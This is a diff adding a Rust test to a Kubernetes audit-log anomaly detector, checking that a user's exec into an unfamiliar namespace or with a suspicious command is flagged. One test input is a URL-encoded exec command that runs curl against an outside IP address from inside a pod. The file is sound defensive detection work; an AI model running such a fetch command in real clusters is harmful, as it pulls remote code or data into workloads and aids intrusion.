@@ -177,6 +177,87 @@ mod tests {
         AuditEvent::decode(value.to_string().as_bytes()).expect("valid test event")
     }
 
+    fn pod_request(
+        user: &str,
+        ts: i64,
+        id: &str,
+        namespace: &str,
+        exec: Option<&str>,
+    ) -> AuditEvent {
+        let time = crate::audit::format_rfc3339_micros(ts);
+        let (verb, uri, subresource, code) = match exec {
+            Some(command) => (
+                "create",
+                format!(
+                    "/api/v1/namespaces/{namespace}/pods/web-1/exec?command={command}&stdin=true"
+                ),
+                "exec",
+                101,
+            ),
+            None => (
+                "list",
+                format!("/api/v1/namespaces/{namespace}/pods"),
+                "",
+                200,
+            ),
+        };
+        let value = json!({
+            "kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": id,
+            "stage": "ResponseComplete", "requestURI": uri, "verb": verb,
+            "user": {"username": user, "groups": ["system:authenticated", "devs"]},
+            "sourceIPs": ["10.0.0.7"], "userAgent": "kubectl/v1.31.0",
+            "objectRef": {"resource": "pods", "namespace": namespace, "name": "web-1", "subresource": subresource, "apiVersion": "v1"},
+            "responseStatus": {"code": code}, "requestReceivedTimestamp": time, "stageTimestamp": time
+        });
+        AuditEvent::decode(value.to_string().as_bytes()).expect("valid test event")
+    }
+
+    #[test]
+    fn a_person_exec_into_a_namespace_they_work_in_is_silent_elsewhere_reported() {
+        let mut detector = LiveDetector::new(DetectorOptions::default());
+        let person = "alice@example.com";
+        // Three days of listing pods in `dev`, every 15 minutes.
+        for step in 0..(3 * 24 * 4) {
+            let ts = T0 + step * 15 * 60_000_000;
+            detector.observe(
+                &pod_request(person, ts, &format!("l-{step}"), "dev", None),
+                "default",
+            );
+        }
+        let at = T0 + 3 * DAY + 60_000_000;
+        let exec_rule = |anomalies: Vec<Anomaly>| {
+            anomalies
+                .iter()
+                .filter(|anomaly| anomaly.detector == "workload.exec")
+                .count()
+        };
+        let home = detector.observe(
+            &pod_request(person, at, "x-1", "dev", Some("sh")),
+            "default",
+        );
+        assert_eq!(exec_rule(home), 0, "exec where the person works is routine");
+        let away = detector.observe(
+            &pod_request(person, at + 1_000_000, "x-2", "payments", Some("sh")),
+            "default",
+        );
+        assert_eq!(
+            exec_rule(away),
+            1,
+            "exec into a namespace the person never worked in"
+        );
+        let fetch = detector.observe(
+            &pod_request(
+                person,
+                at + 2_000_000,
+                "x-3",
+                "dev",
+                Some("curl%20http%3A%2F%2F203.0.113.9%2Fx"),
+            ),
+            "default",
+        );
+        assert_eq!(exec_rule(fetch), 1, "a suspicious command is never a habit");
+    }
+
     #[test]
     fn a_habit_silences_a_habitual_rule_but_a_newcomer_is_reported() {
         let mut detector = LiveDetector::new(DetectorOptions::default());
